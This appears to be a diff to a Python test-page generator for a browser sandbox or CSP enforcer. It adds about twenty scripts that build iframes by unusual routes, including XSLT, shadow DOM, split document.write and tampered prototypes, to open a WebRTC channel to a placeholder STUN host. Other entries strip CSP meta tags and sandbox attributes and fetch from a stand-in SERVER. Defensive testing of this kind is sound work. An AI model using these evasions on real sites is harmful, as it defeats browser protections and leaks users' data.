@@ -98,6 +98,53 @@ _SCRIPTS = {
     "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
     " peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))"
     '&lt;/script>"></iframe>`',
+    "frame_name_twice": "let asked = 0; const f = document.createElement("
+    "{toString: () => asked++ ? 'iframe' : 'div'}); FRAME",
+    "frame_spelled": "const f = document.createElement('IFrame'); FRAME",
+    "frame_space": "const f = document.createElementNS('XHTML', 'x:iframe'); FRAME",
+    "frame_document": "const f = document.implementation.createDocument("
+    "'XHTML', 'iframe').documentElement; FRAME",
+    "frame_parsed": "const f = new DOMParser().parseFromString(`<h:iframe xmlns:h="
+    "'XHTML'/>`, 'text/xml').documentElement; FRAME",
+    "frame_declared": "const f = new DOMParser().parseFromString(`<h:iframe xmlns:h='XHTML'"
+    " xmlns:x-h='XHTML'/>`, 'text/xml').documentElement; FRAME",
+    "frame_accented": "const f = new DOMParser().parseFromString(`<é:iframe xmlns:é='XHTML'/>`,"
+    " 'text/xml').documentElement; FRAME",
+    "frame_set": "document.body.setHTML('<iframe id=late></iframe>', {sanitizer: {elements:"
+    " [{name: 'iframe', attributes: ['id']}]}}); const f = document.getElementById('late'); FRAME",
+    "frame_written": "const other = document.implementation.createHTMLDocument(); other.write("
+    "'<iframe></iframe>'); const f = other.querySelector('iframe'); FRAME",
+    "frame_template": "const held = document.createElement('template'); held.innerHTML ="
+    " '<p></p><!-- --><iframe></iframe>'; const f = held.content.lastChild; FRAME",
+    "frame_outer": "document.body.firstChild.outerHTML = '<iframe id=late>';"
+    " const f = document.getElementById('late'); FRAME",
+    "frame_entity": 'const f = new DOMParser().parseFromString(`<!DOCTYPE x [<!ENTITY e "&#60;ifra'
+    "me xmlns='XHTML'/>\">]><x>&e;</x>`, 'text/xml').querySelector('iframe'); FRAME",
+    "frame_sheet": "const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version='1.0'"
+    " xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><xsl:element"
+    " name='iframe'/></xsl:template></xsl:stylesheet>`, 'text/xml');"
+    " const xslt = new XSLTProcessor(); xslt.importStylesheet(sheet);"
+    " const f = xslt.transformToFragment(sheet, document).firstChild; FRAME",
+    "frame_extended": "class F extends HTMLIFrameElement {}; customElements.define('x-f', F,"
+    " {extends: 'iframe'}); const f = new F(); FRAME",
+    "frame_cut": "document.write('<ifr'); document.write('ame id=late></iframe>');"
+    " const f = document.getElementById('late'); FRAME",
+    "frame_tampered": "String.prototype.replace = RegExp.prototype[Symbol.replace] = x => x;"
+    " RegExp.prototype.exec = RegExp.prototype.test = () => null; Object.defineProperty("
+    "RegExp.prototype, 'flags', {get: () => ''}); Array.prototype[Symbol.iterator] = null;"
+    " window.String = () => '<iframe id=late></iframe>'; Reflect.apply = () => 'iframe';"
+    " document.body.innerHTML = '<iframe id=late></iframe>';"
+    " const f = document.getElementById('late') || document.createElement('iframe'); FRAME",
+    "frame_shadow": "const host = document.body.appendChild(document.createElement('div'));"
+    " host.attachShadow({mode: 'closed'}).innerHTML = '<iframe></iframe>';"
+    " const f = host.shadowRoot?.firstChild; FRAME",
+    "frame_unsafe": "document.body.setHTMLUnsafe('<iframe id=late></iframe>');"
+    " const f = document.getElementById('late'); FRAME",
+    "frame_copied": "const range = document.createRange(); range.selectNode(document.body);"
+    " const f = range.createContextualFragment('<iframe></iframe>').firstChild.cloneNode(); FRAME",
+    "frame_policy": "const made = trustedTypes.createPolicy('mine', {createHTML: x => x});"
+    " document.body.innerHTML = made.createHTML('<iframe id=late></iframe>');"
+    " const f = document.getElementById('late'); FRAME",
     "policy_removed": "for (const each of parent.document.querySelectorAll('meta')) each.remove();"
     " fetch('http://SERVER/NAME/fetch')",
     "sandbox_removed": "frameElement.removeAttribute('sandbox'); location.reload()",
@@ -114,11 +161,21 @@ _SCRIPTS = {
     " `<LINK rel=preconnect href='http://SERVER'><link rel=dns-prefetch href='http://SERVER'>`)",
 }
 
+# What a frame that a page has made does in it, where its own means were deleted.
+_PEER = (
+    "f.srcdoc = `<script>const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
+    " peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))"
+    "<\\/script>`; document.body.append(f)"
+)
+
 
 def pages() -> dict[str, str]:
     """Every page by its name; SERVER and UDP stand for where it sends to."""
     written = {name: f"{before}{SENDING}" for name, before in _BEFORE.items()}
-    for name, script in _SCRIPTS.items():
+    for name, written_script in _SCRIPTS.items():
+        script = written_script.replace("FRAME", _PEER).replace(
+            "XHTML", "http://www.w3.org/1999/xhtml"
+        )
         ends = f"try {{ {script} }} catch (error) {{ document.title = error }}\n</script>"
         written[name] = SENDING.replace("</script>", ends)
     written["nested"] = f'<iframe srcdoc="{NESTED}"></iframe>'
